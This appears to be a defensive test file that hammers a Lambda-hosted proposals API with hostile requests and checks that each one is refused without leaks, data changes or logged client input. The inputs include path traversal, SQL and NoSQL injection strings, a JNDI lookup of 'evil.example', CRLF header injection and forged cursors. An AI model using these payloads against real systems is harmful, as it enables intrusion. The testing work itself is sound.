"""Requests that nobody sends who means well. Whatever they are, the answer is an error that tells nothing of the inside,
nothing is changed, and nothing that a client sent is found in the log."""

import base64
import gzip
import json
import re
from urllib.parse import quote

from api import Events, Response, User, check, expect
from gateway import http_event
from runtime_api import Function

# Stands in everything that is sent; the log must not have it.
SECRET = "c0ffee5ecret"

# What Lambda would not pass on.
LARGEST_ANSWER = 6_000_000
# Of CPU, for the largest bodies.
MOST_MS = 2_000

INSIDE = re.compile(
    rb"panick|backtrace|\.rs\b|/src/|unwrap|aws_|aws-|dynamo|Exception|expression|GSI1|METADATA|USER#|rustc|serde::|tokio",
    re.IGNORECASE,
)

IDS = [
    *["#", "%23", "..", "%2e%2e", "../..", "%2e%2e%2f%2e%2e", "%2F", "//", "%5c", "*", "%00", "%ff", "%", "%zz", "%u0041"],
    *["PROPOSAL#1", "PROPOSAL%231", "METADATA", "null", "undefined", "0", "-1", "1e9", "true", "{id}", "[]", "%7B%7D"],
    *["é", "😀", "\u202e", "%E2%80%AE", "%ED%A0%80", " ", "%20", "%0d%0aset-cookie:%20a=b", "a" * 8000, "%41" * 3000],
    *["' OR '1'='1", "$ne", "__proto__", "${jndi:ldap://evil.example}", "{{7*7}}", "<script>", "attribute_exists(PK)"],
]


def prove_attacks(function: Function, tokens: dict[str, str]) -> None:
    """`function` is an instance that has a database."""
    api = Watched(function)
    alice, bob, root = (User(api, tokens[name]) for name in ("alice", "bob", "root"))
    title = f"of {SECRET}"
    # What it logged for others is theirs.
    others = len(function.log())
    item = expect(alice.post("/api/proposals", {"title": title, "budget": 1}), 201).data
    for part in (attack_ids, attack_cursors, attack_queries, attack_bodies, attack_headers, attack_methods):
        before = api.requests
        part(alice, bob, root, item)
        same = expect(alice.get(f"/api/proposals/{item['id']}"), 200).data
        check(same == item, f"{part.__name__} changed {item} to {same}")
        print(f"{part.__name__.replace('_', ' ')}: {api.requests - before} requests", flush=True)
    check(function.is_running(), "the API ended")
    prove_log(function.log()[others:])
    expect(root.delete(f"/api/proposals/{item['id']}"), 204)


class Watched(Events):
    """Checks what every answer must be, whatever was asked."""

    def __init__(self, function: Function):
        super().__init__(function, http_event("GET", "/", [], b""))
        self.requests = 0

    def send(self, method: str, path: str, headers: dict[str, str] | None = None, body: bytes = b"") -> Response:
        self.requests += 1
        before = self.function.cpu_ms() if self.function.is_running() else 0
        response = super().send(method, path, headers, body)
        cost = self.function.cpu_ms() - before
        shown = f"{method} {path[:200]} {str(headers)[-200:]} {body[:200]!r}"
        response.asked = shown
        check(cost < MOST_MS, f"{shown} took {cost:.0f} ms of CPU")
        check(response.status < 500, f"{shown}: {response}")
        check(len(response.body) < LARGEST_ANSWER, f"{shown}: {len(response.body)} bytes")
        check("x-request-id" in response.headers, f"{shown}: {response}")
        if response.status >= 400 and method != "HEAD":
            check("detail" in response.json(), f"{shown}: {response}")
            # Validation shows what it was sent.
            told = response.body if response.status != 422 else b"".join(told_of(error) for error in response.json()["detail"])
            check(not INSIDE.search(told), f"{shown}: {response}")
        return response


def told_of(error: dict) -> bytes:
    return json.dumps([error["type"], error["msg"]]).encode()


def refused(response: Response, *statuses: int) -> Response:
    check(response.status in statuses, f"expected one of {statuses}: {response.asked} gave {response}")
    return response


def attack_ids(alice: User, bob: User, root: User, item: dict) -> None:
    good = item["id"]
    ids = IDS + [good + end for end in ("%23", "%23METADATA", "%20", "%00", "%0a", "/..")]
    ids += [good[:-1], f"{good}0", good.replace("-", "\u2010")]
    # API Gateway decodes the path once, so both forms reach the function.
    for text in ids:
        for shown in {text, quote(text, safe="/%#")}:
            for method, body in [("GET", None), ("PATCH", {"title": SECRET}), ("DELETE", None)]:
                refused(root.send(method, f"/api/proposals/{shown}", body), 400, 404, 405, 422)
                refused(root.send(method, f"/api/proposals/{good}/documents/{shown}", body), 400, 404, 405, 422)
            refused(root.get(f"/api/proposals/{shown}/documents"), 400, 404, 422)


def attack_cursors(alice: User, bob: User, root: User, item: dict) -> None:
    mine = f"/api/proposals/{item['id']}"
    others = [expect(bob.post("/api/proposals", {"title": SECRET, "budget": 1}), 201).data["id"] for _ in range(3)]
    more = [expect(alice.post("/api/proposals", {"title": SECRET, "budget": 1}), 201).data["id"] for _ in range(3)]
    for _ in range(2):
        expect(alice.post(f"{mine}/documents", {"filename": SECRET}), 201)
    own = {item["id"], *more}

    def cursor(user: User, path: str) -> str:
        found = expect(user.get(path), 200).json()["next_cursor"]
        check(found is not None, f"{path} has one page")
        return found

    good = cursor(alice, "/api/proposals?limit=1")
    lists = ["/api/proposals?limit=1", "/api/proposals?status=draft&limit=1", f"{mine}/documents?limit=1"]
    cursors = {path: cursor(alice, path) for path in lists}
    for path in lists:
        for origin, foreign in [*cursors.items(), ("bob's", cursor(bob, "/api/proposals?limit=1"))]:
            answer = alice.get(f"{path}&cursor={foreign}")
            expect(answer, 200 if origin == path else 422)

    forged = [good[:place] + ("A" if good[place] != "A" else "B") + good[place + 1 :] for place in range(len(good))]
    forged += [good[:length] for length in range(0, len(good), 7)]
    forged += [good + "A", good + "=", good * 2, good.lower(), "A" * 20_000, "e30", "bnVsbA", "W10", "%00", "é", "."]
    content = json.loads(base64.urlsafe_b64decode(good + "=="))
    for change in [
        {"checksum": 0},
        {"checksum": -1},
        {"checksum": "0"},
        {"position": None},
        {"position": {"sort": "", "key": None}},
        {"position": {"sort": "PROPOSAL#", "key": [f"PROPOSAL#{others[0]}", "METADATA"]}},
        {"position": content["position"] | {"key": [f"PROPOSAL#{others[0]}", "METADATA"]}},
        {"position": content["position"] | {"sort": "\u0000"}},
        {"position": content["position"] | {"key": ["", ""]}},
    ]:
        text = json.dumps(content | change).encode()
        forged.append(base64.urlsafe_b64encode(text).decode().rstrip("="))
    for text in forged:
        answer = refused(alice.get(f"/api/proposals?limit=100&cursor={text}"), 200, 422)
        if answer.status == 200:
            # The last character of base64 has bits that mean nothing.
            listed = {one["id"] for one in answer.data}
            check(listed <= own, f"{text} shows what is not alice's: {answer}")
    for one in [*others, *more]:
        expect(root.delete(f"/api/proposals/{one}"), 204)
    for one in expect(alice.get(f"{mine}/documents"), 200).data:
        expect(root.delete(f"{mine}/documents/{one['id']}"), 204)


def attack_queries(alice: User, bob: User, root: User, item: dict) -> None:
    for query in [
        *["limit=0", "limit=101", "limit=-1", "limit=1e1", "limit=0x10", "limit=", "limit=%31%00", "limit=99999999999999999999"],
        *["limit=NaN", "limit=true", "limit=1&limit=2", "limit[]=1", "limit=%EF%BC%91", "limit=+1.0"],
        *["cursor=", "cursor=a&cursor=b", "status=", "status=Draft", "status=draft%23", "status=draft&status=failed"],
    ]:
        refused(alice.get(f"/api/proposals?{query}"), 200, 422)
    for query in ["&&&", "=", "%", "%zz=%zz", "a" * 30_000, f"{SECRET}={SECRET}", "__proto__[a]=b", "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16")]:
        refused(alice.get(f"/api/proposals?{query}"), 200, 400, 422)


def attack_bodies(alice: User, bob: User, root: User, item: dict) -> None:
    as_json = {"content-type": "application/json"}
    good = {"title": SECRET, "budget": 1}
    text = json.dumps(good).encode()
    path = f"/api/proposals/{item['id']}"

    def send(body: bytes, *statuses: int, headers: dict[str, str] = as_json) -> None:
        for method, place in [("POST", "/api/proposals"), ("PATCH", path), ("POST", f"{path}/documents")]:
            own = {"authorization": f"Bearer {alice.token}"} | headers
            refused(alice.api.send(method, place, own, body), *statuses)

    broken = [b"", b"{", b"}", b"null", b"[]", b'"', b"\x00", b"\xff\xfe", b"{]", b"{'title':1}", text[:-1], text + text, text + b"x"]
    broken += [b"\xef\xbb\xbf" + text, text.decode().encode("utf-16"), text.decode().encode("utf-32"), gzip.compress(text)]
    broken += [b'{"title":"\xff","budget":1}', b'{"title":"\xed\xa0\x80","budget":1}', b'{"title":"a\nb","budget":1}']
    broken += [rb'{"title":"\ud800","budget":1}', rb'{"title":"\udc00\ud800","budget":1}', rb'{"\ud800":1}']
    broken += [b'{"title":"x","budget":%s}' % number for number in (b"NaN", b"Infinity", b"-Infinity", b"0x1", b"01", b"1.", b"+1")]
    broken += [b'{"title":"x","budget":%s}' % number for number in (b"1e400", b"-1e400", b"1e-400", b"9" * 400, b"1e99999999999999")]
    broken += [b'{"title":"x","budget":1,"rank":%s}' % number for number in (b"1e400", b"9223372036854775808", b"1.5", b"-0.5")]
    broken += [b'{"title":"a","title":1,"budget":1}', b'{"__proto__":{"title":"x"}}', b'{"title":{"$ne":null},"budget":1}']
    broken += [b"[" * depth + b"]" * depth for depth in (128, 5_000, 500_000)]
    broken += [b'{"a":' * depth + b"1" + b"}" * depth for depth in (128, 5_000, 150_000)]
    broken += [b'{"title":"x","budget":1,"extra":' + b"[" * 200 + b"]" * 200 + b"}"]
    for body in broken:
        send(body, 400, 422)
    for reserved in ["id", "owner", "created_at", "updated_at", "PK", "SK", "GSI1PK", "version_", "ttl"]:
        send(json.dumps(good | {"filename": "x", reserved: SECRET}).encode(), 422)

    # Many errors in few bytes.
    send(json.dumps({f"{number:x}": 0 for number in range(70_000)}).encode(), 413, 422)
    send(json.dumps(good | {"tags": [0] * 300_000}).encode(), 413, 422)
    send(json.dumps(good | {"title": "x" * 1_000_000}).encode(), 413, 422)
    for size in (1_048_577, 5_000_000):
        send(b" " * size, 413)

    for kind in ["text/plain", "application/xml", "multipart/form-data", "application/x-www-form-urlencoded", "", "json"]:
        send(text, 415, headers={"content-type": kind})
    send(text, 415, headers={})
    for encoding in ["gzip", "br", "deflate", "gzip, gzip"]:
        send(gzip.compress(text), 400, 415, 422, headers=as_json | {"content-encoding": encoding})

    # More than an item of DynamoDB holds.
    refused(alice.post("/api/proposals", good | {"notes": "x" * 500_000}), 413, 422)
    refused(alice.patch(path, {"notes": "x" * 500_000}), 413, 422)


def attack_headers(alice: User, bob: User, root: User, item: dict) -> None:
    # Of ASCII: lambda_http knows no other header values, and fails the invocation.
    values = ["", " ", "x" * 100_000, "\t", "a\tb", '"', "\\", "%00", "${jndi:ldap://evil.example}", SECRET]
    names = ["authorization", "if-match", "origin", "content-type", "content-length", "cookie", "x-request-id", "accept"]
    names += ["x-forwarded-for", "x-http-method-override", "forwarded", "range", "expect", "transfer-encoding", "user-agent"]
    names += ["access-control-request-method", "accept-encoding", "x-amzn-trace-id", "traceparent", "upgrade"]
    for name in names:
        for value in values:
            answer = alice.send("GET", f"/api/proposals/{item['id']}", headers={name: value})
            expected = 401 if name == "authorization" else 200
            check(answer.status == expected, f"{name}: {value[:20]!r} gives {answer}")
    for scheme in ["Bearer", "bearer", "Bearer  ", "Bearer Bearer", "Basic", "Token", "Bearer,Bearer"]:
        for token in ["", alice.token[:-1], f"{alice.token} {bob.token}", f"{alice.token},{bob.token}", f"{alice.token}\t"]:
            if (answer := alice.send("GET", "/api/auth/me", headers={"authorization": f"{scheme} {token}"})).status == 200:
                check(token.strip() == alice.token, f"{scheme} and a changed token: {answer}")
    for value in ['"0"', "1", 'W/"1"', '"1', '"-1"', '"1.0"', '"18446744073709551616"', '"01"', '"1","2"', "*,*x", '"' * 5_000]:
        refused(alice.patch(f"/api/proposals/{item['id']}", {}, {"if-match": value}), 200, 400, 412)
    many = {f"x-{number}": SECRET for number in range(1_000)}
    expect(alice.send("GET", f"/api/proposals/{item['id']}", headers=many), 200)
    answer = alice.send("GET", "/health", headers={"origin": "http://localhost:3000 set-cookie: a=b"})
    check("set-cookie" not in answer.headers and "access-control-allow-origin" not in answer.headers, str(answer))


def attack_methods(alice: User, bob: User, root: User, item: dict) -> None:
    for method in ["PUT", "TRACE", "CONNECT", "PROPFIND", "POST", "get", "X" * 100, "PURGE"]:
        refused(alice.send(method, f"/api/proposals/{item['id']}"), 404, 405)
    refused(alice.send("HEAD", f"/api/proposals/{item['id']}"), 200)


def prove_log(log: str) -> None:
    """Nothing of what was sent is in it, and nothing went wrong inside."""
    lines = [json.loads(line) for line in log.splitlines()]
    failures = [line for line in lines if line["level"] == "ERROR"]
    check(not failures, f"logged as errors: {failures[:3]}")
    for shown in (SECRET, "eyJ", "jndi", "PROPOSAL#"):
        check(shown not in log, f"the log holds {shown}: {[line for line in lines if shown in json.dumps(line)][:3]}")
    longest = max(len(line) for line in log.splitlines())
    check(longest < 2_000, f"a line of the log has {longest} characters")
    print(f"log of the attacks: {len(lines)} lines, none of an error, nothing of what was sent", flush=True)
